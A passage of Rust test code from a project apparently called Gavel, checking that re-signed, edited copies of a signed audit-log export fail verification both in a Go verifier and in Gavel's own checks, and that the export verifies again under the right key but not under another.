                file.bytes = original.replacen(line, &edited, 1).into_bytes();
            }
        }
        let forged = resigned(&files, &db);
        let refused = go_verifies(
            &unpack(&forged, &dir.path().join(format!("forged-{n}"))),
            &key,
        )
        .expect_err("a re-signed edit of the trail");
        assert!(refused.contains(says), "{refused}");
        // Gavel's own verify says the same.
        let ours = problems(&forged, &key);
        assert!(
            ours.iter()
                .any(|problem| problem.contains("leaf is not its fields")
                    || problem.contains("is not in the log the checkpoint signs")),
            "{ours:?}"
        );
    }
    let (_, other) = gavel::domain::checkpoint::generate_key("gavel.log/other");
    assert!(go_verifies(&unpacked, &other).is_err(), "another key");
    go_verifies(&unpacked, &key).expect("as exported, it verifies again");
}
